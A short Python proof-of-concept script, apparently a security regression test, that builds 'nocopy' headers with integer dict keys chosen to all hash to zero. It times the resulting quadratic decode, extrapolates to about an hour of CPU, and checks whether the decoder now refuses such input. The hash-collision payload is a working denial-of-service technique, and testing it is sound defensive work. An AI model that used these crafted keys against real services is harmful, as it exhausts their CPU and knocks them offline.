# NEW: a "dict" node's keys are rebuilt as Python ints whose hashes the header chooses. Keys that are
# all multiples of 2**61-1 hash to 0, so building the dict costs n^2/2 equality tests. The header
# limits (64 MiB, 2,000,000 JSON values) allow ~333,000 such keys (~18 MB): extrapolated from the
# timings below that is ~1 hour of CPU in get(), from a header of megabytes, with no buffer at all.
import json, time
import nocopy, nocopy.errors  # adapted: get() is now refused early
from seg import segment
from nocopy._codec._layout import _items

P = (1 << 61) - 1
times = []
for n in (5000, 10000, 20000):
    keys = [{"k": "py", "v": k * P} for k in range(1, n + 1)]
    hdr = {"tree": {"k": "dict", "keys": keys, "vals": [{"k": "py", "v": 0}] * n}, "buffers": []}
    body = json.dumps(hdr, separators=(",", ":")).encode()
    u = segment(hdr)
    t = time.time()
    try:  # adapted: a refusal ends the decode early
        d = nocopy.attach(u).get(); got = "returned"
    except nocopy.errors.SegmentCorruptError as e:
        got = "refused: " + str(e)[-110:]
    dt = time.time() - t
    print(got)
    # the same header with ordinary keys, for comparison
    hdr2 = {"tree": {"k": "dict", "keys": [{"k": "py", "v": k} for k in range(1, n + 1)], "vals": [{"k": "py", "v": 0}] * n}, "buffers": []}
    u2 = segment(hdr2)
    t = time.time(); nocopy.attach(u2).get(); dt2 = time.time() - t
    times.append((n, dt))
    print(f"{n} colliding int keys: header {len(body) >> 10} KiB, {_items(body)} JSON values -> get() {dt:.2f} s (ordinary keys: {dt2:.3f} s)", flush=True)
n_max = 2_000_000 // 6
n1, t1 = times[-1]
est = t1 * (n_max / n1) ** 2
print(f"extrapolated for {n_max} keys (the 2,000,000-value limit, ~18 MB header): {est / 60:.0f} min")
print(f"VERDICT: {'vulnerable' if est > 300 else 'safe'} get() took {t1:.1f} s for a {n1}-key header ({n1 * 6} JSON values), growing quadratically: ~{est / 60:.0f} min at the header limits")
